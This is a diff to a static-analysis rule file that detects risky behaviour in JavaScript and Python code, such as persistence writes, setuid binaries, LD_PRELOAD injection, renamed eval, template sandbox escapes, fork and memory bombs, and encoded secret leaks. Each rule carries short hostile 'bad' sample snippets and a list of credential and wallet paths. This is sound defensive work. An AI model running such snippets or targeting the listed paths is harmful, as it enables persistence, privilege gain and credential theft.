@@ -2928,7 +3305,19 @@ const dataRules = [
         recommendation: 'Delete only named files that the program made',
         metadata: { capability: 'filesystem', cwe: 'CWE-73' },
         match: [
-            { call: REMOVERS, where: { arg: 0, path: ['os.homedir()', 'process.env.HOME'] } },
+            {
+                call: REMOVERS,
+                where: { arg: 0, path: ['os.homedir()', 'process.env.HOME', 'process.env.USERPROFILE', 'path.parse().root'] },
+            },
+            {
+                all: [
+                    { call: ['fs.readdir*', 'fs.promises.readdir', 'fs.opendir*'], where: { arg: 0, regex: javascript_data_WHOLE } },
+                    {
+                        call: ['fs.unlink*', 'fs.promises.unlink', ...REMOVERS],
+                        where: { arg: 0, is: ['path', 'unknown', 'external', 'list'] },
+                    },
+                ],
+            },
             {
                 call: [...REMOVERS, 'fs.unlink*'],
                 where: {
@@ -2946,6 +3335,60 @@ const dataRules = [
         ok: ["require('fs').rmSync('./build', { recursive: true })", "console.log('rm -rf /')"],
     },
     {
+        id: 'js/filesystem/startup-file',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Writes to a file that other programs run or trust',
+        recommendation: 'Write to `OUTPUT_DIR`',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: [
+            { call: javascript_data_WRITERS, where: { arg: 0, regex: javascript_data_STARTUP } },
+            { call: COPIERS, where: { arg: 1, regex: javascript_data_STARTUP } },
+            { call: javascript_data_WRITERS, where: { arg: 0, path: ['process.env.GITHUB_ENV', 'process.env.GITHUB_PATH'] } },
+        ],
+        bad: [
+            "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')",
+            "require('fs').writeFileSync('/etc/cron.d/x', '* * * * * root x')",
+            "require('fs').appendFileSync(process.env.GITHUB_ENV, 'A=1')",
+            "const { symlinkSync } = require('fs'); symlinkSync('/tmp/x.sh', '/etc/profile.d/x.sh')",
+        ],
+        ok: [
+            "require('fs').writeFileSync('out.txt', '/etc/cron')",
+            "require('fs').appendFileSync(process.env.GITHUB_OUTPUT, 'a=1')",
+        ],
+    },
+    {
+        id: 'js/filesystem/package-hook',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Plants a command that runs when somebody installs the package',
+        recommendation: 'Write hooks into package.json by hand, where they can be reviewed',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: {
+            all: [
+                { assign: ['*.preinstall', '*.install', '*.postinstall', '*.prepare'] },
+                { call: javascript_data_WRITERS, where: { arg: 0, regex: '(?:^|/)package\\.json$' } },
+            ],
+        },
+        bad: [
+            "const fs = require('fs'); const p = JSON.parse(fs.readFileSync('package.json')); p.scripts.postinstall = 'x'; fs.writeFileSync('package.json', JSON.stringify(p));",
+        ],
+        ok: [
+            "const fs = require('fs'); const p = JSON.parse(fs.readFileSync('package.json')); p.version = '1.0.1'; fs.writeFileSync('package.json', JSON.stringify(p));",
+        ],
+    },
+    {
+        id: 'js/filesystem/set-user-id',
+        languages: javascript_data_languages,
+        severity: 'high',
+        message: 'Makes a file that runs with the rights of its owner',
+        recommendation: 'Leave permissions as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: { call: ['fs.chmod*', 'fs.promises.chmod', 'fs.fchmod*'], where: { arg: 1, atLeast: 2048, atMost: 4095 } },
+        bad: ["require('fs').chmodSync('/tmp/sh', 0o4755)"],
+        ok: ["require('fs').chmodSync('run.sh', 0o755)"],
+    },
+    {
         id: 'js/filesystem/system-write',
         languages: javascript_data_languages,
         severity: 'medium',
@@ -2953,17 +3396,7 @@ const dataRules = [
         recommendation: 'Write to `OUTPUT_DIR`',
         metadata: { capability: 'filesystem', cwe: 'CWE-73' },
         match: {
-            call: [
-                'fs.write*',
-                'fs.append*',
-                'fs.promises.write*',
-                'fs.promises.append*',
-                'fs.createWriteStream',
-                'fs.copyFile*',
-                'fs.rename*',
-                'fs.symlink*',
-                'fs.promises.*',
-            ],
+            call: [...javascript_data_WRITERS, 'fs.promises.*'],
             where: {
                 arg: 'any',
                 regex: '^/(?:etc|usr|bin|sbin|lib|boot|var/spool/cron)/|authorized_keys$|(?:^|/)\\.(?:bashrc|profile|bash_profile|zshrc|gitconfig)$|\\.git/hooks/',
@@ -3034,6 +3467,45 @@ const processRules = [
         ],
     },
     {
+        id: 'js/process/renamed-shell',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Starts a shell command by a function that goes under another name',
+        recommendation: 'Call the function by its own name, or leave the shell out',
+        metadata: { capability: 'process', cwe: 'CWE-506' },
+        match: [
+            { call: SHELL_RUNNERS, renamed: true },
+            { call: SPAWNERS, renamed: true, where: { arg: 'shell', is: ['true', 'string'] } },
+            { call: SPAWNERS, renamed: true, where: { arg: 0, regex: '(?:^|/)(?:ba|da|z|k|a)?sh$' } },
+        ],
+        bad: [
+            "const { execSync: tidy } = require('child_process'); tidy('make')",
+            "import { exec as go } from 'node:child_process'; go('make')",
+            "const o = { get run() { return require('child_process').execSync; } }; o.run('make')",
+            "const t = { a: require('child_process').spawn }; t.a('sh', ['-c', 'make'])",
+        ],
+        ok: [
+            "const { execSync } = require('child_process'); execSync('make')",
+            "import { execFile as run } from 'child_process'; run('ls', ['-l'])",
+            "const util = require('util'); const execute = util.promisify(require('child_process').exec); execute('make')",
+        ],
+    },
+    {
+        id: 'js/process/given-command',
+        languages: javascript_process_languages,
+        severity: 'low',
+        message: 'Runs a command that is not known before the program runs',
+        recommendation: 'Choose between known commands',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        tags: ['runs-given', 'execute'],
+        match: {
+            call: [...SHELL_RUNNERS, ...SPAWNERS, 'eval', 'Function', 'vm.run*'],
+            where: [{ arg: 0, is: ['unknown', 'external', 'path'] }],
+        },
+        bad: ["require('child_process').exec(parameters.command)", 'eval(parameters.code)'],
+        ok: ["require('child_process').exec('make')", "eval('1')"],
+    },
+    {
         id: 'js/process/hidden-child-process',
         languages: javascript_process_languages,
         severity: 'high',
@@ -3097,7 +3569,6 @@ const processRules = [
         metadata: { capability: 'process', cwe: 'CWE-732' },
         tags: ['execute'],
         match: [
-            { call: ['child_process.*'], where: { arg: 0, is: ['unknown', 'external', 'path'] } },
             {
                 call: ['child_process.*'],
                 where: {
@@ -3191,7 +3662,7 @@ const processRules = [
         recommendation: 'Use the documented modules',
         metadata: { capability: 'native', cwe: 'CWE-676' },
         match: [
-            { call: ['process.binding', 'process._linkedBinding', 'process.dlopen'] },
+            { call: ['process.binding', 'process._linkedBinding', 'process.dlopen', 'wasi.WASI'] },
             { attribute: ['process.binding', 'process.dlopen', 'process._linkedBinding'] },
             { import: ['*.node', 'ffi', 'ffi-napi', 'koffi', 'ref-napi', 'node-ffi*', 'bun:ffi', 'internal/*'] },
         ],
@@ -3208,6 +3679,23 @@ const processRules = [
         ],
     },
     {
+        id: 'js/native/preload',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Puts foreign code into every program that starts (LD_PRELOAD, NODE_OPTIONS)',
+        recommendation: 'Leave the environment of other programs as it is',
+        metadata: { capability: 'native', cwe: 'CWE-426' },
+        match: {
+            assign: ['LD_PRELOAD', 'LD_AUDIT', 'BASH_ENV', 'PYTHONSTARTUP', 'GIT_SSH_COMMAND', 'NODE_OPTIONS'].map((name) => `process.env.${name}`),
+        },
+        bad: [
+            "process.env.LD_PRELOAD = '/tmp/x.so'",
+            "require('child_process').spawn('ls', { env: { LD_PRELOAD: '/tmp/x.so' } })",
+            "require('child_process').execFile('ls', [], { env: { ...process.env, NODE_OPTIONS: '--require /tmp/x.js' } })",
+        ],
+        ok: ["process.env.LANG = 'C'", "require('child_process').spawn('ls', { env: { LANG: 'C' } })"],
+    },
+    {
         id: 'js/native/spawn-binding',
         languages: javascript_process_languages,
         severity: 'high',
@@ -3217,14 +3705,17 @@ const processRules = [
         match: [
             {
                 call: ['process.binding', 'process._linkedBinding'],
-                where: { arg: 0, equals: ['spawn_sync', 'process_wrap', 'natives', 'evals', 'contextify'] },
+                where: { arg: 0, equals: ['constants', 'config', 'util'], not: true },
             },
             { call: 'process.dlopen' },
+            { import: ['/tmp/*', '/var/tmp/*', '/dev/shm/*'] },
         ],
         bad: [
             "process.dlopen({ exports: {} }, '/tmp/x.node')",
             "process.binding('spawn_sync').spawn({ file: '/bin/sh' })",
             "process.binding('process_' + 'wrap')",
+            "process.binding('fs')",
+            "require('/tmp/x.node')",
         ],
         ok: ["process.binding('constants')"],
     },
@@ -3324,6 +3815,25 @@ const processRules = [
         ],
         bad: ['process.setuid(0)', "require('inspector').open(9229)"],
         ok: ['console.log(process.getuid())'],
+    },
+    {
+        id: 'js/sandbox-escape/inspector-code',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Has the debugger run text as code',
+        recommendation: 'Write the code out',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-506' },
+        match: {
+            call: ['inspector*', '?.post', '*().post'],
+            where: { arg: 'any', equals: ['Runtime.evaluate', 'Runtime.callFunctionOn', 'Runtime.compileScript'] },
+        },
+        bad: [
+            "const { Session } = require('inspector'); const s = new Session(); s.connect(); s.post('Runtime.evaluate', { expression: '1' })",
+        ],
+        ok: [
+            "const s = new (require('inspector').Session)(); s.post('Profiler.enable')",
+            "console.log('Runtime.evaluate')",
+        ],
     },
     {
         id: 'js/sandbox-escape/vm-breakout',
@@ -3438,6 +3948,41 @@ const processRules = [
             'const a = []; while (true) { a.push(1); if (a.length > 3) break; }',
             'new Array(100).fill(0)',
         ],
+    },
+    {
+        id: 'js/resource-exhaustion/memory-bomb',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Takes memory or disk without an end, or more than any machine has',
+        recommendation: 'Work in parts of bounded size',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-770' },
+        match: [
+            { allocation: { atLeast: 3e10 } },
+            {
+                loop: {
+                    endless: true,
+                    calls: [
+                        '?.push',
+                        '?.concat',
+                        '?.repeat',
+                        '?.set',
+                        'Buffer.alloc*',
+                        'fs.append*',
+                        'fs.write*',
+                        'ArrayBuffer',
+                        'WebAssembly.Memory',
+                        '?.grows',
+                    ],
+                },
+            },
+        ],
+        bad: [
+            'Buffer.alloc(64 * 1024 ** 3)',
+            'const a = []; while (true) a.push(new Array(1000));',
+            "let s = 'x'; for (;;) s += s;",
+            "for (;;) require('fs').appendFileSync('/tmp/x', 'x');",
+        ],
+        ok: ['Buffer.alloc(1e9)', 'const a = []; while (true) { a.push(1); if (a.length > 3) break; }'],
     },
 ];
 
@@ -3594,6 +4139,65 @@ const python_code_codeRules = [
         ],
     },
     {
+        id: 'py/dynamic-code/file-as-code',
+        languages: python_code_languages,
+        severity: 'low',
+        message: 'Runs another file as code',
+        recommendation: 'Use an import statement',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-94' },
+        tags: ['execute'],
+        match: {
+            call: [
+                'runpy.*',
+                'importlib.machinery.SourceFileLoader',
+                'importlib.util.spec_from_file_location',
+                '*.loader.exec_module',
+                'importlib.machinery.ExtensionFileLoader',
+            ],
+        },
+        bad: ["import runpy\nrunpy.run_path('a.py')", "import importlib.util as u\nu.spec_from_file_location('x', 'x.py')"],
+        ok: ['import json', "print('runpy.run_path')"],
+    },
+    {
+        id: 'py/dynamic-code/shared-folder-as-code',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Runs code out of a folder that every program may write to',
+        recommendation: 'Have the code in the repository, where it can be read before it runs',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-427' },
+        match: [
+            {
+                call: ['runpy.*', 'importlib.machinery.*', 'importlib.util.spec_from_file_location', 'ctypes.CDLL'],
+                where: { arg: 'any', regex: '^/(?:tmp|var/tmp|dev/shm)/' },
+            },
+            {
+                call: ['sys.path.insert', 'sys.path.append'],
+                where: { arg: 'any', regex: '^/(?:tmp|var/tmp|dev/shm)(?:/|$)' },
+            },
+        ],
+        bad: ["import runpy\nrunpy.run_path('/tmp/a.py')", "import sys\nsys.path.insert(0, '/tmp/x')\nimport x"],
+        ok: ["import runpy\nrunpy.run_path('tools/a.py')", "import sys\nsys.path.insert(0, 'lib')"],
+    },
+    {
+        id: 'py/dynamic-code/renamed',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Runs text as code by a function that goes under another name',
+        recommendation: 'Call the function by its own name, or write the code out',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-506' },
+        match: [
+            { call: ['eval', 'exec', 'pickle.loads', 'marshal.loads'], renamed: true, where: { minArgs: 1 } },
+            { assign: ['builtins.*'], value: { path: ['eval', 'exec', 'compile', '__import__', 'os.system', 'os.popen'] } },
+        ],
+        bad: [
+            "e = eval\nprint(e('1'))",
+            'from builtins import exec as log\nlog("x = 1")',
+            'run = {"go": exec}\ndef h(c):\n    run["go"](c)',
+            "import builtins\nbuiltins.print = builtins.exec\nprint('x = 1')",
+        ],
+        ok: ["print(eval('1'))", "import builtins\nbuiltins.eval('1')", 'evaluate = len\nevaluate("1")'],
+    },
+    {
         id: 'py/dynamic-code/decorator',
         languages: python_code_languages,
         severity: 'high',
@@ -3747,6 +4351,28 @@ const python_code_codeRules = [
         ok: ["import pickle\npickle.loads(b'I1\\n.')", "import yaml\nyaml.safe_load('a: [1]')"],
     },
     {
+        id: 'py/dynamic-code/unpickle-download',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Loads objects from the network in a format that can run code while loading',
+        recommendation: 'Send data as JSON',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-502' },
+        match: [
+            { call: UNPICKLERS, where: { arg: 0, source: 'network' } },
+            {
+                all: [
+                    { call: ['marshal.loads', 'marshal.load', 'pickle.loads', 'dill.loads'] },
+                    { call: ['types.FunctionType', 'types.CodeType', 'exec', 'eval'] },
+                ],
+            },
+        ],
+        bad: [
+            "import pickle, urllib.request as u\npickle.loads(u.urlopen('http://example.org').read())",
+            "import marshal, types\ntypes.FunctionType(marshal.loads(b'c'), globals())()",
+        ],
+        ok: ["import pickle\npickle.load(open('x', 'rb'))"],
+    },
+    {
         id: 'py/dynamic-code/bytecode',
         languages: python_code_languages,
         severity: 'medium',
@@ -3807,6 +4433,22 @@ const python_code_codeRules = [
             'print(int.__mro__)',
             'class B(dict):\n    pass\nB.__bases__',
         ],
+    },
+    {
+        id: 'py/sandbox-escape/template',
+        languages: python_code_languages,
+        severity: 'high',
+        message: "Has a template climb to the interpreter's own classes or globals",
+        recommendation: 'Give templates plain values, and render them in a sandboxed environment',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-1336' },
+        match: {
+            all: [
+                { string: { regex: '__(?:class|mro|subclasses|globals|builtins|import)__' } },
+                { call: ['jinja2.*', 'mako.*', 'django.template.*', 'tornado.template.*', 'flask.render_template_string'] },
+            ],
+        },
+        bad: ['from jinja2 import Template\nTemplate("{{ \'\'.__class__.__mro__ }}").render()'],
+        ok: ['from jinja2 import Template\nTemplate("{{ name }}").render(name="x")', "print('__class__')"],
     },
     {
         id: 'py/sandbox-escape/frames',
@@ -3900,7 +4542,9 @@ const python_code_codeRules = [
             "import os\ngetattr(os, (0x73797374656d).to_bytes(6, 'big').decode())('id')",
             "import os, string as s\nx = s.ascii_lowercase\ngetattr(os, x[18] + 'ystem')('id')",
             "import os, json\ngetattr(os, json.loads('\"system\"'))('id')",
+            "import os\nfrom string import Template\ngetattr(os, Template('${a}tem').substitute(a='sys'))('id')",
             "import os, re\ngetattr(os, re.sub('x', '', 'sxyxsxtxexm'))('id')",
+            "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('make',))",
             "class X:\n    def __getattr__(self, n):\n        return getattr(__import__('os'), n)\nX().system('id')",
             "import os\ndef name(t):\n    return ''.join(chr(ord(c) - 1) for c in t)\ngetattr(os, name('tztufn'))('id')",
         ],
@@ -3922,8 +4566,10 @@ const python_code_codeRules = [
         recommendation: 'Use an import statement',
         metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
         tags: ['disguise'],
-        match: { import: DANGEROUS_MODULES, hidden: true },
+        match: { import: [...DANGEROUS_MODULES, '_posixsubprocess'], hidden: true },
         bad: [
+            'import posix\nposix.getcwd()',
+            'import _posixsubprocess',
             "__import__('o' + 's')",
             "import importlib\nimportlib.import_module('sub' + 'process')",
             "__import__(''.join(map(chr, [111, 115])))",
@@ -4062,9 +4708,10 @@ const python_files_WRITERS = [
     'os.chmod',
     'os.truncate',
 ];
+const CHANGERS = ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'];
 const OPENERS = ['open', 'codecs.open', 'os.open', 'pathlib.Path.open', 'aiofiles.open'];
 const WRITING = { arg: [1, 'mode'], regex: '^[rb]{0,2}[waxt]|\\+' };
-const ACCOUNTS = ['/etc/passwd', '/etc/shadow', '/etc/sudoers', '/etc/gshadow', '/etc/ssh/', '/root/', '/var/log/auth'];
+const python_files_ACCOUNTS = ['/etc/passwd', '/etc/shadow', '/etc/sudoers', '/etc/gshadow', '/etc/ssh/', '/root/', '/var/log/auth'];
 const CREDENTIALS = [
     '.ssh/',
     '.ssh',
@@ -4091,6 +4738,20 @@ const CREDENTIALS = [
     'wallet.dat',
     '.bash_history',
     '.azure/',
+    '.git/config',
+    '.config/google-chrome',
+    '.config/chromium',
+    '.mozilla',
+    'Library/Keychains',
+    '.bitcoin',
+    '.electrum',
+    '.ethereum',
+    '.password-store',
+    '.pgpass',
+    '.my.cnf',
+    '.zsh_history',
+    '.python_history',
+    'kubernetes.io/serviceaccount',
     '.terraform.d',
 ];
 const SOCKETS = ['docker.sock', 'containerd.sock', 'crio.sock', 'podman.sock', 'dockershim.sock'];
@@ -4109,6 +4770,17 @@ const KERNEL = [
     '/sys/fs/cgroup/',
 ];
 const python_files_STARTUP = [
+    '/etc/profile',
+    '/etc/environment',
+    '/etc/bash.bashrc',
+    '/etc/pam.d',
+    '/usr/local/bin/',
+    '/usr/bin/',
+    'pip.conf',
+    '.npmrc',
+    '.gitconfig',
+    '.config/systemd',
+    '.vimrc',
     '.bashrc',
     '.bash_profile',
     '.profile',
@@ -4130,6 +4802,8 @@ const python_files_STARTUP = [
     '/etc/hosts',
     '.ssh/config',
 ];
+/** A home or a folder of the system, whole or with everything in it. */
+const SYSTEM_FOLDER = '^(?:/\\*{0,2}|~(?:/\\*{1,2})?|/(?:home|root|etc|usr|bin|sbin|lib|boot|opt|srv|var)(?:/[\\w./*-]{0,40})?)$';
 const fileRules = [
     {
         id: 'py/filesystem/open',
@@ -4284,7 +4958,7 @@ const fileRules = [
                             'pathlib.Path.glob',
                             'pathlib.Path.iterdir',
                         ],
-                        where: { arg: 0, equals: ['/', '~', '/home', '/root', '/etc', '/usr', '/*', '/home/*', '~/*', '/**'] },
+                        where: { arg: 0, regex: SYSTEM_FOLDER },
                     },
                     { call: ['os.remove', 'os.unlink', 'shutil.rmtree', '*.unlink'] },
                 ],
@@ -4304,6 +4978,31 @@ const fileRules = [
         ],
     },
     {
+        id: 'py/filesystem/overwrite-everything',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Overwrites every file of a home or a system folder',
+        recommendation: 'Write only to files that the program made itself',
+        metadata: { capability: 'filesystem', cwe: 'CWE-506' },
+        match: {
+            all: [
+                {
+                    call: ['os.walk', 'glob.*', 'os.scandir', 'os.listdir', 'pathlib.Path.rglob', 'pathlib.Path.glob'],
+                    where: { arg: 0, regex: SYSTEM_FOLDER },
+                },
+                { call: [...OPENERS, 'pathlib.Path.write_*'], where: [{ arg: 0, is: 'non-literal' }, WRITING] },
+            ],
+        },
+        bad: [
+            "import glob\nfor f in glob.glob('/home/**/*', recursive=True):\n    open(f, 'w').close()",
+            "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        open(os.path.join(r, f), 'wb').write(b'x')",
+        ],
+        ok: [
+            "import glob\nfor f in glob.glob('*.txt'):\n    open(f + '.bak', 'w').close()",
+            "import os\nfor r, d, fs in os.walk('/usr'):\n    print(len(fs))",
+        ],
+    },
+    {
         id: 'py/filesystem/sensitive-path',
         languages: python_files_languages,
         severity: 'medium',
@@ -4312,7 +5011,8 @@ const fileRules = [
         metadata: { capability: 'filesystem', cwe: 'CWE-552' },
         tags: ['sensitive-path'],
         match: [
-            { call: FILE_USERS, where: { arg: 0, contains: [...ACCOUNTS, ...CREDENTIALS] } },
+            { call: FILE_USERS, where: { arg: 0, contains: [...python_files_ACCOUNTS, ...CREDENTIALS] } },
+            { call: 'netrc.netrc' },
             {
                 call: FILE_USERS,
                 where: { arg: 0, regex: ['^/proc/(?:\\d+|self|\\*|\\$)', '(?:^|/)\\.env(?:\\.\\w{1,12})?$', '(?:\\.\\./){3}'] },
@@ -4470,17 +5170,108 @@ const fileRules = [
         message: 'Gives a file rights that let others change it or run it as somebody else',
         recommendation: 'Leave permissions as they are',
         metadata: { capability: 'filesystem', cwe: 'CWE-732' },
-        tags: ['execute'],
         match: [
-            { call: ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'], where: { arg: [1, 'mode'], regex: 'x' } },
-            { call: ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'], where: { arg: [1, 'mode'], atLeast: 493 } },
+            // The numbers below 0o1000 whose last digit lets everybody write.
+            ...[0o622, 0o626, 0o632, 0o662, 0o666, 0o676, 0o722, 0o726, 0o732, 0o736, 0o762, 0o766, 0o772, 0o776].map((mode) => ({ call: CHANGERS, where: { arg: ['mode', 1, 0], atLeast: mode, atMost: mode + 1 } })),
+            { call: CHANGERS, where: { arg: ['mode', 1, 0], atLeast: 0o1000 } },
+            {
+                call: CHANGERS,
+                where: [
+                    { arg: 0, regex: '^/(?!tmp/)' },
+                    { arg: ['mode', 1], atLeast: 0o100 },
+                ],
+            },
         ],
         bad: [
             "import os\nos.chmod('a', 0o777)",
             "import os\nos.chmod('/bin/sh', 0o4755)",
-            "from pathlib import Path\nPath('run').chmod(0o755)",
+            "from pathlib import Path\nPath('run').chmod(0o777)",
+            "import os\nos.chmod('/usr/bin/x', 0o755)",
         ],
-        ok: ["import os\nos.chmod('a', 0o644)", "import os\nos.chmod('key', 0o600)"],
+        ok: ["import os\nos.chmod('a', 0o644)", "import os\nos.chmod('run.sh', 0o755)"],
+    },
+    {
+        id: 'py/filesystem/makes-executable',
+        languages: python_files_languages,
+        severity: 'low',
+        message: 'Makes a file executable',
+        recommendation: 'Set the mode in the repository',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        tags: ['execute'],
+        match: [
+            { call: CHANGERS, where: { arg: ['mode', 1, 0], atLeast: 0o700 } },
+            { all: [{ attribute: ['stat.S_IX*', 'stat.S_IRWX*', 'stat.S_IEXEC'] }, { call: CHANGERS }] },
+        ],
+        bad: ["import os\nos.chmod('run.sh', 0o755)", "import os, stat\nos.chmod('run.sh', stat.S_IXUSR | stat.S_IRUSR)"],
+        ok: ["import os\nos.chmod('a', 0o644)"],
+    },
+    {
+        id: 'py/filesystem/set-user-id',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Makes a file that runs with the rights of its owner',
+        recommendation: 'Leave permissions as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            {
+                call: ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'],
+                where: { arg: ['mode', 1, 0], atLeast: 2048, atMost: 4095 },
+            },
+            {
+                all: [
+                    { attribute: ['stat.S_ISUID', 'stat.S_ISGID'] },
+                    { call: ['os.chmod', 'pathlib.Path.chmod', 'os.fchmod'] },
+                ],
+            },
+        ],
+        bad: [
+            "import os\nos.chmod('/tmp/sh', 0o4755)",
+            "from pathlib import Path\nPath('/tmp/sh').chmod(0o6755)",
+            "import os, stat\nos.chmod('sh', stat.S_ISUID | 0o755)",
+        ],
+        ok: ["import os\nos.chmod('run.sh', 0o755)", "import os\nos.chmod('shared', 0o1777)"],
+    },
+    {
+        id: 'py/filesystem/unpacks-anywhere',
+        languages: python_files_languages,
+        severity: 'medium',
+        message: 'Unpacks an archive into a folder of the system',
+        recommendation: 'Unpack into a folder of the program, with `filter="data"`',
+        metadata: { capability: 'filesystem', cwe: 'CWE-22' },
+        match: {
+            call: ['*.extractall', '*.extract', 'shutil.unpack_archive'],
+            where: { arg: 'any', regex: '^/(?:$|etc|usr|root|home|var/(?!tmp)|bin|lib|opt|boot|\\.\\.)|^~|^\\.\\./' },
+        },
+        bad: [
+            "import tarfile\ntarfile.open('x.tgz').extractall('/')",
+            "import shutil\nshutil.unpack_archive('a.zip', '/etc')",
+        ],
+        ok: [
+            "import tarfile\ntarfile.open('x.tgz').extractall('out')",
+            "import zipfile\nzipfile.ZipFile('a.zip').extractall()",
+        ],
+    },
+    {
+        id: 'py/sandbox-escape/device',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Makes a device file, by which a disk can be reached past every check',
+        recommendation: 'Leave devices alone',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: { call: 'os.mknod' },
+        bad: ["import os, stat\nos.mknod('/tmp/a', 0o600 | stat.S_IFBLK, os.makedev(8, 0))"],
+        ok: ["import os\nos.mkfifo('/tmp/p')"],
+    },
+    {
+        id: 'py/sandbox-escape/root-shell',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Becomes another user or leaves its namespace, and then runs a command',
+        recommendation: 'Run as the user the sandbox gives',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: { combine: ['py/sandbox-escape/privileges', ['py/process/shell', 'py/process/outside-command', 'sh/*']] },
+        bad: ["import os\nos.setuid(0)\nos.system('make')"],
+        ok: ['import os\nos.setuid(1000)', "import os\nos.system('make')"],
     },
     {
         id: 'py/sandbox-escape/privileges',
@@ -4502,7 +5293,6 @@ const fileRules = [
                 'os.unshare',
                 'os.setns',
                 'os.pivot_root',
-                'os.mknod',
             ],
         },
         bad: ['import os\nos.setuid(0)', 'from os import chroot as c\nc("/mnt")', 'import os\nos.unshare(os.CLONE_NEWNS)'],
@@ -4758,6 +5548,35 @@ const networkRules = [
         ],
     },
     {
+        id: 'py/network/serves',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Waits for connections',
+        recommendation: 'A program in the sandbox cannot be reached; call the handler directly',
+        metadata: { capability: 'network', cwe: 'CWE-1327' },
+        tags: ['serves'],
+        match: {
+            call: [
+                'socketserver.*',
+                'http.server.*',
+                'xmlrpc.server.*',
+                'wsgiref.*',
+                'socket.create_server',
+                'socket.socket.listen',
+                'socket.socket.accept',
+                'asyncio.start_server',
+                'websockets.serve',
+                'flask.Flask',
+                'aiohttp.web.*',
+                'fastapi.FastAPI',
+                'bottle.*',
+                'tornado.web.*',
+            ],
+        },
+        bad: ["import http.server as h\nh.HTTPServer(('127.0.0.1', 80), h.SimpleHTTPRequestHandler)"],
+        ok: ['import http.client', "print('flask.Flask')"],
+    },
+    {
         id: 'py/network/listen',
         languages: python_network_languages,
         severity: 'medium',
@@ -4866,6 +5685,30 @@ const networkRules = [
         ok: ["import os\nos.environ['HOME']", "import os\nos.getenv('LANG', 'C')", "token = 'x'\nprint(token)"],
     },
     {
+        id: 'py/environment-secrets/encoded',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Writes secrets of the environment in another form, so that masking does not see them',
+        recommendation: 'Leave secrets out of what is printed',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
+        match: {
+            all: [
+                { attribute: [...python_network_SECRET_NAMES, 'os.environ', 'os.environ.encode'] },
+                { obfuscation: 'encoded-environment' },
+            ],
+        },
+        bad: [
+            "import os\nprint(os.environ['NPM_TOKEN'][::-1])",
+            "import os\nprint(' '.join(os.environ['GITHUB_TOKEN']))",
+            'import os, base64, json\nprint(base64.b64encode(json.dumps(dict(os.environ)).encode()))',
+        ],
+        ok: [
+            "import os\nprint(os.environ['HOME'][::-1])",
+            "import os\nprint(os.pathsep.join(os.environ['PATH'].split(':')))",
+            "import base64\nprint(base64.b64encode(b'x'))",
+        ],
+    },
+    {
         id: 'py/resource-exhaustion/endless-loop',
         languages: python_network_languages,
         severity: 'low',
@@ -4900,6 +5743,7 @@ const networkRules = [
             { loop: { endless: true, calls: PROCESSES } },
             { loop: { calls: ['os.fork', 'os.forkpty', 'pty.fork'] } },
             { all: [{ loop: { endless: true } }, { call: ['os.fork'] }] },
+            { function: { selfCalls: 1, calls: ['os.fork', 'os.forkpty', 'pty.fork', ...PROCESSES] } },
         ],
         bad: [
             'import os\nwhile True:\n    os.fork()',
@@ -4909,8 +5753,10 @@ const networkRules = [
             'import threading, itertools\nfor _ in itertools.count():\n    threading.Thread(target=print).start()',
             'import os\nf = os.fork\ndef bomb():\n    f()\nwhile 1:\n    bomb()',
             'import subprocess\nwhile True:\n    subprocess.Popen(["sleep", "100"])',
+            'import os\ndef boom():\n    os.fork()\n    boom()\nboom()',
         ],
         ok: [
+            'import subprocess\ndef fact(n):\n    return 1 if n < 2 else n * fact(n - 1)\nsubprocess.run(["ls"])',
             'import os\nif os.fork() == 0:\n    os._exit(0)',
             'import threading\nfor i in range(4):\n    threading.Thread(target=print).start()',
             'while True:\n    print(1)',
@@ -4944,9 +5790,29 @@ const networkRules = [
         ],
     },
     {
+        id: 'py/resource-exhaustion/memory-bomb',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Takes more memory than any machine has',
+        recommendation: 'Work on parts of the data',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-770' },
+        match: { allocation: { atLeast: 3e10 } },
+        bad: [
+            'x = []\nwhile True:\n    x.append(" " * 10**6)',
+            'b = bytearray(64 * 1024 ** 3)',
+            's = "x"\nwhile True:\n    s += s',
+            'print(9 ** 9 ** 9 ** 2)',
+        ],
+        ok: [
+            "x = 'a' * 100",
+            'x = [0] * (10 ** 9)',
+            'x = []\nwhile True:\n    x.append(1)\n    if len(x) > 3:\n        break',
+        ],
+    },
+    {
